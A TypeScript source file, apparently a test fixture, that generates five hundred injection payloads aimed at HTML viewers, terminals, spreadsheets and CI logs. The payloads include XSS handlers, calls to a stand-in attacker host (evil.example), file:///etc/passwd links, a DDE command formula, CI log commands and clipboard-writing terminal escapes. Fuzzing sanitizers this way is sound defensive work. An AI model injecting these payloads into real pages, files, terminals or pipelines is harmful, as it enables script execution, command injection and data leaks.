/**
 * Five hundred payloads against viewers, terminals, spreadsheets and CI logs, made by crossing what such attacks consist of, so
 * that no single spelling decides. In batches, because every field of a page can hold many at once.
 */
import { HOSTILE } from "./hostile-texts.ts";

const CALLS = ["alert(1)", "confirm`1`", "prompt(1)", "fetch('//evil.example')", "document.title='owned'"];

const TAGS = [
	"img src=x",
	"svg",
	"body",
	"input autofocus",
	"video src=x",
	"details open",
	"marquee",
	"iframe",
	"object data=x",
	"math",
];
const HANDLERS = [
	"onerror",
	"onload",
	"onfocus",
	"ontoggle",
	"onmouseover",
	"onstart",
	"onanimationend",
	"onpointerenter",
	"onscroll",
	"onbeforetoggle",
	"oncut",
];
const BREAKS = ["", '">', "'>", "</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</svg>"];
const LINKS = [
	...[
		"javascript:alert(1)",
		"JaVaScRiPt:alert(1)",
		"java\tscript:alert(1)",
		"data:text/html,<script>alert(1)</script>",
	],
	...[
		"vbscript:msgbox(1)",
		"//evil.example",
		"https://evil.example/x.png",
		"file:///etc/passwd",
		"\u0001javascript:alert(1)",
	],
];
const CSS = [
	...["</style><style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css'</style>"],
	...[
		"<link rel=stylesheet href=//evil.example/x.css>",
		'" style="background:url(//evil.example)"',
		"<p style=position:fixed;inset:0>",
	],
];
const INVISIBLE = [
	0x200b, 0x200e, 0x202a, 0x202e, 0x2066, 0x2069, 0xfeff, 0x00ad, 0x061c, 0x180e, 0x2060, 0xe0001, 0xe0041, 0xfe0f,
	0x3164,
];
const CONTROLS = [0x00, 0x07, 0x08, 0x0b, 0x0d, 0x1b, 0x7f, 0x84, 0x85, 0x9b, 0x9d, 0x2028, 0x2029, 0xd800];
const TERMINAL = [
	...[
		"\u001B[2J",
		"\u001B[31m",
		"\u001B[1A\u001B[2K",
		"\u001B]0;owned\u0007",
		"\u001B]52;c;ZXZpbA==\u0007",
		"\u001B]8;;https://evil.example\u001B\\x",
	],
	...[
		"\u001Bc",
		"\u001B[?1049h",
		"\u001BP0;1|17/ab\u001B\\",
		"\u009B31m",
		"\u009D52;c;eA==\u009C",
		"\u001B[6n",
		"\r\u001B[K",
	],
];
const LOGS = [
	"::set-output name=x::y",
	"::error::z",
	"##[group]x",
	"##vso[task.setvariable]y",
	"::stop-commands::t",
	"##teamcity[x]",
];
const FORMULAS = [
	"=1+1",
	"+1",
	"-2",
	"@SUM(A1)",
	"=cmd|'/c calc'!A1",
	'=HYPERLINK("//evil.example")',
	"\t=1",
	"\u200B=1",
	"\uFF1D1",
	"%0A=1",
];
const MARKDOWN = [
	"![x](//evil.example/p.png)",
	"[x](javascript:alert(1))",
	"<https://evil.example>",
	"@everyone",
	"#1",
	"| a | b |\n|---|---|",
	"```\n~~~",
];

function all(): string[] {
	const made = [...HOSTILE];
	for (const [at, tag] of TAGS.entries())
		for (const [by, handler] of HANDLERS.entries())
			made.push(`${BREAKS[(at + by) % BREAKS.length]}<${tag} ${handler}=${CALLS[(at * 3 + by) % CALLS.length]}>`);
	for (const [at, open] of BREAKS.entries())
		for (const call of CALLS) made.push(`${open}<script>${call}</script>`, `${open}<ScRiPt/x>${call}//${at}`);
	for (const link of LINKS)
		for (const shape of [
			(to: string) => to,
			(to: string) => `<a href="${to}">x</a>`,
			(to: string) => `<base href="${to}">`,
			(to: string) => `<svg><use href="${to}"/></svg>`,
		])
			made.push(shape(link));
	made.push(...CSS, ...TERMINAL, ...LOGS, ...FORMULAS, ...MARKDOWN);
	for (const point of [...INVISIBLE, ...CONTROLS])
		for (const frame of [
			(c: string) => `a${c}b`,
			(c: string) => `${c}<script>${c}alert(1)</script>`,
			(c: string) => `${c}=1+1${c}`,
			(c: string) => `<${c}img src=x onerror=alert(1)>`,
		])
			made.push(frame(String.fromCodePoint(point)));
	for (const sequence of TERMINAL) for (const log of LOGS) made.push(`${sequence}\n${log}`);
	return [...new Set(made)];
}

const WANTED = 500;

/** Exactly five hundred different payloads. */
export const PAYLOADS: readonly string[] = all().slice(0, WANTED);

/** The payloads in groups of `size`, each group as one text. */
export function batches(size: number): string[] {
	return Array.from({ length: Math.ceil(PAYLOADS.length / size) }, (_, at) =>
		PAYLOADS.slice(at * size, (at + 1) * size).join("\n"),
	);
}

/** Text of the same length, lines and code spans, without anything in it. */
export function harmlessAs(payload: string): string {
	return payload.replace(/[^\n`]/gu, (character) => "x".repeat(character.length));
}
